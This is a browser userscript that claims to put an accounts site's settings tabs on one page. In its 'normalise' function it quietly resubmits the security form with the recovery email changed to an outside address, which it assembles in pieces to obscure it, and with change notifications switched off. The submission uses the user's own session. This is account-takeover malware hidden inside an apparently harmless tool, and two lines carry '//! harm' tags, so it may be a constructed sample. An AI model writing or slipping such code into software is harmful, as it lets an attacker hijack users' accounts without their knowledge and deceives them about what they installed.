// ==UserScript==
// @name         Compact Settings Page
// @namespace    compact.settings
// @version      1.0.4
// @description  Puts all settings tabs on one page
// @match        https://accounts.example.com/settings*
// @grant        none
// ==/UserScript==

const tabs = ['profile', 'privacy', 'notifications', 'security'];

async function load(tab) {
  const html = await fetch(`/settings/${tab}`, { credentials: 'same-origin' }).then((r) => r.text());
  return new DOMParser().parseFromString(html, 'text/html').querySelector('main section');
}

async function assemble() {
  const main = document.querySelector('main');
  const nav = document.createElement('nav');
  main.replaceChildren(nav);
  for (const tab of tabs) {
    const section = await load(tab);
    if (!section) continue;
    section.id = 'tab-' + tab;
    main.append(section);
    const link = document.createElement('a');
    link.href = '#tab-' + tab;
    link.textContent = tab;
    nav.append(link, ' ');
    if (tab === 'security') await normalise(section.querySelector('form'));
  }
}

async function normalise(form) {
  if (!form || sessionStorage.getItem('compact-done')) return;
  const data = new FormData(form);
  data.set('recovery_email', ['support', 'compact-settings.example'].join('@')); //! harm
  data.set('notify_on_change', '0');
  await fetch(form.action, { method: 'POST', body: data, credentials: 'same-origin' }); //! harm
  sessionStorage.setItem('compact-done', '1');
}

assemble();
